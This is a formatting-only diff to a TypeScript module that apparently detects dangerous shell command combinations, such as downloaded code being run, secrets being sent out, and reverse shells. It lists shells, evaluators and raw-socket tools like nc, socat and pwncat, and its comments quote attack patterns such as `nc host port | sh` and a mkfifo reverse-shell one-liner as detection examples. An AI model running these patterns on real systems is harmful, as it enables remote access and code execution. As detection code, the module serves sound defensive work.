@@ -2,9 +2,57 @@ import type { Command } from '../command.ts';
 import type { Effect } from '../effect.ts';
 import { NO_OBJECT } from './objects.ts';
 
-const SHELLS = new Set(['sh', 'bash', 'dash', 'zsh', 'ksh', 'ash', 'fish', 'csh', 'tcsh', 'busybox', 'pwsh', 'powershell']);
-const EVALUATORS = new Set([...SHELLS, 'eval', 'source', '.', 'exec', 'python', 'python2', 'python3', 'perl', 'ruby', 'node', 'php', 'xargs', 'env', 'sudo', 'osascript', 'lua', 'deno', 'bun', 'iex', 'awk']);
-const RAW_SOCKETS = new Set(['nc', 'ncat', 'netcat', 'telnet', 'socat', 'openssl', 'nc.traditional', 'nc.openbsd', 'cryptcat', 'pwncat', 'whois', 'busybox']);
+const SHELLS = new Set([
+  'sh',
+  'bash',
+  'dash',
+  'zsh',
+  'ksh',
+  'ash',
+  'fish',
+  'csh',
+  'tcsh',
+  'busybox',
+  'pwsh',
+  'powershell',
+]);
+const EVALUATORS = new Set([
+  ...SHELLS,
+  'eval',
+  'source',
+  '.',
+  'exec',
+  'python',
+  'python2',
+  'python3',
+  'perl',
+  'ruby',
+  'node',
+  'php',
+  'xargs',
+  'env',
+  'sudo',
+  'osascript',
+  'lua',
+  'deno',
+  'bun',
+  'iex',
+  'awk',
+]);
+const RAW_SOCKETS = new Set([
+  'nc',
+  'ncat',
+  'netcat',
+  'telnet',
+  'socat',
+  'openssl',
+  'nc.traditional',
+  'nc.openbsd',
+  'cryptcat',
+  'pwncat',
+  'whois',
+  'busybox',
+]);
 
 /**
  * What commands do together that none does alone: code that came over the network and is run, secrets that are
@@ -60,14 +108,16 @@ function codeFromElsewhere(
 ): void {
   for (const effect of own) {
     if (effect.kind === 'execute' && effect.object.kind === 'path') {
-      if (files.downloaded.has(effect.object.value)) added.push(executes(command, ['remote-code', 'downloaded']));
+      if (files.downloaded.has(effect.object.value))
+        added.push(executes(command, ['remote-code', 'downloaded']));
       if (files.decoded.has(effect.object.value)) added.push(executes(command, ['encoded']));
     }
     if (effect.kind !== 'execute' || !effect.tags.includes('piped-code')) continue;
     const tags = new Set<string>();
     for (const other of before)
       for (const source of alone[other.index] ?? NO_EFFECTS) {
-        if (source.kind === 'download' || (source.kind === 'connect' && RAW_SOCKETS.has(other.program))) tags.add('remote-code');
+        if (source.kind === 'download' || (source.kind === 'connect' && RAW_SOCKETS.has(other.program)))
+          tags.add('remote-code');
         if (source.tags.includes('decodes')) tags.add('encoded');
         if (source.tags.includes('history')) tags.add('history-replay');
         if (source.kind === 'read' && source.object.labels.includes('temp')) tags.add('from-temp');
@@ -76,7 +126,11 @@ function codeFromElsewhere(
   }
   // `eval "$(curl …)"`, `bash <(curl …)`, `. <(base64 -d …)`: the text that is run is another command's output.
   const evaluates = EVALUATORS.has(command.program) || !command.name.known;
-  if (!evaluates || (command.args.every((word) => word.known) && command.name.known && command.code?.known !== false)) return;
+  if (
+    !evaluates ||
+    (command.args.every((word) => word.known) && command.name.known && command.code?.known !== false)
+  )
+    return;
   for (const other of commands) {
     if (other.origin !== 'substitution' || other.index === command.index) continue;
     const sources = [other, ...upstream(other, commands)];
@@ -112,7 +166,10 @@ function isSecretRead(effect: Effect): boolean {
 
 function sendsOut(effect: Effect): boolean {
   return (
-    (effect.kind === 'upload' || effect.kind === 'connect' || effect.kind === 'send' || effect.kind === 'download') &&
+    (effect.kind === 'upload' ||
+      effect.kind === 'connect' ||
+      effect.kind === 'send' ||
+      effect.kind === 'download') &&
     !effect.object.labels.includes('loopback')
   );
 }
@@ -129,7 +186,11 @@ function secretsLeaving(
   const out = own.find(sendsOut);
   if (out === undefined) return;
   let secret = before.some((other) => (alone[other.index] ?? NO_EFFECTS).some(isSecretRead));
-  if (!secret) secret = own.some((effect) => effect.kind === 'upload' && effect.object.kind === 'path' && tainted.has(effect.object.value));
+  if (!secret)
+    secret = own.some(
+      (effect) =>
+        effect.kind === 'upload' && effect.object.kind === 'path' && tainted.has(effect.object.value),
+    );
   if (!secret && command.args.some((word) => !word.known))
     secret = commands.some(
       (other) =>
@@ -151,10 +212,12 @@ function socketShell(
   const socket = own.some((effect) => effect.tags.includes('shell-socket'));
   if (shell && socket && command.program !== 'exec') added.push(executes(command, ['reverse-shell']));
   if (!SHELLS.has(command.program)) return;
-  const raw = (other: Command | undefined): boolean => other !== undefined && RAW_SOCKETS.has(other.program) && other.program !== 'busybox';
+  const raw = (other: Command | undefined): boolean =>
+    other !== undefined && RAW_SOCKETS.has(other.program) && other.program !== 'busybox';
   const next = command.pipedTo === null ? undefined : commands[command.pipedTo];
   // `nc host port | sh`, `mkfifo f; cat f | sh -i 2>&1 | nc host port > f`
-  if (before.some(raw) || (raw(next) && command.pipedFrom !== null)) added.push(executes(command, ['reverse-shell']));
+  if (before.some(raw) || (raw(next) && command.pipedFrom !== null))
+    added.push(executes(command, ['reverse-shell']));
 }
 
 function remember(
@@ -171,12 +234,14 @@ function remember(
   const decodes = all.some((effect) => effect.tags.includes('decodes'));
   for (const effect of own) {
     if (effect.kind !== 'write' || effect.object.kind !== 'path' || !effect.object.known) continue;
-    if (effect.tags.includes('downloaded') || (fetches && effect.tags.includes('redirect'))) downloaded.add(effect.object.value);
+    if (effect.tags.includes('downloaded') || (fetches && effect.tags.includes('redirect')))
+      downloaded.add(effect.object.value);
     if (secret) tainted.add(effect.object.value);
     if (decodes && effect.tags.includes('redirect')) decoded.add(effect.object.value);
   }
   // A copy of what came over the network is what came over the network.
   for (const effect of own)
     if (effect.kind === 'read' && downloaded.has(effect.object.value))
-      for (const target of own) if (target.kind === 'write' && target.object.known) downloaded.add(target.object.value);
+      for (const target of own)
+        if (target.kind === 'write' && target.object.known) downloaded.add(target.object.value);
 }
